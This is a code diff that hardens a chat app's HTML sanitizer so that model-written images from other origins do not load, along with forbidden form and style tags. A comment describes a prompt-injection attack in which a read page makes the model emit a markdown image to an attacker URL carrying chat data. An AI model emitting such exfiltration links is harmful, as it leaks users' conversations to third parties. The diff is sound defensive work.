@@ -21,7 +21,23 @@ DOMPurify.addHook('afterSanitizeAttributes', (node) => {
     node.setAttribute('target', '_blank')
     node.setAttribute('rel', 'noopener noreferrer')
   }
+  // An image from elsewhere would load by itself: a page the agent read could have the
+  // model write `![](https://attacker/?data=…)` and learn what was in the chat. Only
+  // this app's own images (and inline data) load; the others show their alt text.
+  if (node.tagName === 'IMG' && !ownImage(node.getAttribute('src') ?? '')) {
+    node.removeAttribute('src')
+    node.removeAttribute('srcset')
+  }
 })
+
+function ownImage(src: string): boolean {
+  try {
+    const url = new URL(src, location.href)
+    return url.origin === location.origin || url.protocol === 'data:'
+  } catch {
+    return false
+  }
+}
 
 // No forms or styles a prompt-injected answer could dress up as this app's own UI.
 const FORBID_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'style']
